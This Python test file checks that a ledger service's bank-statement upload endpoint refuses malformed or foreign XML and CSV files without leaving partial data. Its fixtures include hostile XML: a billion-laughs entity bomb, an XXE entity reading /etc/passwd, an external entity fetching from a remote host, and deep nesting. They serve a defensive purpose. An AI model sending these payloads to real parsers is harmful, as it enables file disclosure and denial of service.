"""A bank file is taken whole or not at all, whatever it is."""

from dataclasses import dataclass

import pytest

from tests.integration.bad_input.conftest import UnderWay
from tests.integration.bad_input.test_requests import code_of
from tests.registry import CHENGDU, JINAN, bank_account
from tests.unit.ledger.files import Move, camt

XML, CSV = "application/xml", "text/csv"
OURS = bank_account(JINAN, "payer")
GOOD = camt(OURS, [Move(-5, "x", ref="r1")])
LAUGHS = b'<!ENTITY e0 "lol">' + b"".join(b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * 10) for i in range(1, 10))
OLE2 = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512)


@dataclass(frozen=True)
class File:
    """A file that is no statement, or not ours, and the code that says so."""

    name: str
    media_type: str
    content: bytes
    code: str
    status: int = 422

    def __str__(self) -> str:
        return self.name


def dtd(declarations: bytes, text: bytes) -> bytes:
    """A statement in front of which somebody declares entities."""
    return GOOD.replace(b"?>", b"?><!DOCTYPE Document [" + declarations + b"]>", 1).replace(b">x<", b">" + text + b"<")


def edited(before: bytes, after: bytes) -> bytes:
    assert before in GOOD
    return GOOD.replace(before, after)


FILES = [
    File("XML cut off", XML, GOOD[:-30], "statement-xml-broken"),
    File("no XML", XML, b"hello", "statement-not-readable"),
    File(
        "a CSV named XML",
        XML,
        "交易日期,收入金额\n20260302,1.00\n".encode("gb18030"),
        "statement-not-readable",
    ),
    File("XML behind words", XML, b"hello <Document/>", "statement-xml-broken"),
    File("nothing", XML, b"", "statement-empty"),
    File("200,000 elements deep", XML, b"<a>" * 200_000, "statement-xml-broken"),
    File("NUL in XML", XML, edited(b">x<", b">\0<"), "statement-xml-broken"),
    File("NUL by reference", XML, edited(b">x<", b">&#0;<"), "statement-xml-broken"),
    File("an undeclared entity", XML, edited(b">x<", b">&e;<"), "statement-xml-broken"),
    File("an entity", XML, dtd(b'<!ENTITY e "x">', b"&e;"), "statement-xml-doctype"),
    File("a billion laughs", XML, dtd(LAUGHS, b"&e9;"), "statement-xml-doctype"),
    File("a local file", XML, dtd(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;"), "statement-xml-doctype"),
    File("a foreign host", XML, dtd(b'<!ENTITY % e SYSTEM "http://192.0.2.1/e">%e;', b""), "statement-xml-doctype"),
    File("another document", XML, b"<a/>", "statement-form-unsupported"),
    File("JSON", "application/json", b"{}", "unsupported-media-type", 415),
    File("an account of nobody", XML, camt("62999", [Move(5, "x")]), "statement-account-not-ours"),
    File("another agency's account", XML, camt(bank_account(CHENGDU, "payer"), []), "statement-account-not-ours"),
    File("a sum that does not add up", XML, camt(OURS, [Move(-5, "x")], closing=77), "statement-does-not-add-up"),
    File("dollars", XML, camt(OURS, [Move(-5, "x")], currency="USD"), "statement-currency-not-cny"),
    File(
        "an amount in powers of ten",
        XML,
        edited(b"0.05</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts", b"1e5</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts"),
        "statement-line-invalid",
    ),
    File(
        "half a fen",
        XML,
        edited(b"0.05</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts", b"0.055</Amt><CdtDbtInd>DBIT</CdtDbtInd><Sts"),
        "statement-line-invalid",
    ),
    File(
        "30 February", XML, edited(b"2026-03-02</Dt></BookgDt>", b"2026-02-30</Dt></BookgDt>"), "statement-line-invalid"
    ),
    File("an empty CSV", CSV, b"", "statement-empty"),
    File("a CSV of something else", CSV, b"a,b,c\n1,2,3\n", "statement-form-unsupported"),
    File("HTML named CSV", CSV, b"<html><table><tr><td>1</td></tr></table></html>", "statement-not-readable"),
    File("XLS named CSV", CSV, OLE2, "statement-not-readable"),
    File("XLSX named CSV", CSV, b"PK\x03\x04" + bytes(200), "statement-not-readable"),
    File("NUL alone", CSV, bytes(3), "statement-empty"),
    File("NUL in CSV", CSV, "交易日期\0,对方户名,收入金额\n".encode(), "statement-encoding"),
    File(
        "a CSV whose last line is cut off",
        CSV,
        "交易日期,对方户名,收入金额\n2026".encode(),
        "statement-form-unsupported",
    ),
]


@pytest.mark.parametrize("file", FILES, ids=str)
async def test_file_is_refused_by_its_code_and_leaves_nothing(under_way: UnderWay, file: File) -> None:
    ledger = under_way.system["ledger"]
    before = await ledger.counts()
    answer = await under_way.system.call(
        "ledger",
        "POST",
        "/statements",
        claims={"admdvs": JINAN},
        content=file.content,
        headers={"Content-Type": file.media_type},
    )
    assert (answer.status_code, code_of(answer)) == (file.status, file.code), answer.text
    assert await ledger.counts() == before
    assert "root:" not in answer.text


async def test_unknown_bank_format_is_refused(under_way: UnderWay) -> None:
    answer = await under_way.system.call(
        "ledger",
        "POST",
        "/statements?mapping=zzz",
        claims={"admdvs": JINAN},
        content=b"a,b",
        headers={"Content-Type": CSV},
    )
    assert (answer.status_code, code_of(answer)) == (422, "statement-form-unsupported")


async def test_the_file_that_all_these_are_made_from_is_taken(under_way: UnderWay) -> None:
    answer = await under_way.system.call(
        "ledger", "POST", "/statements", claims={"admdvs": JINAN}, content=GOOD, headers={"Content-Type": XML}
    )
    assert answer.status_code == 202, answer.text
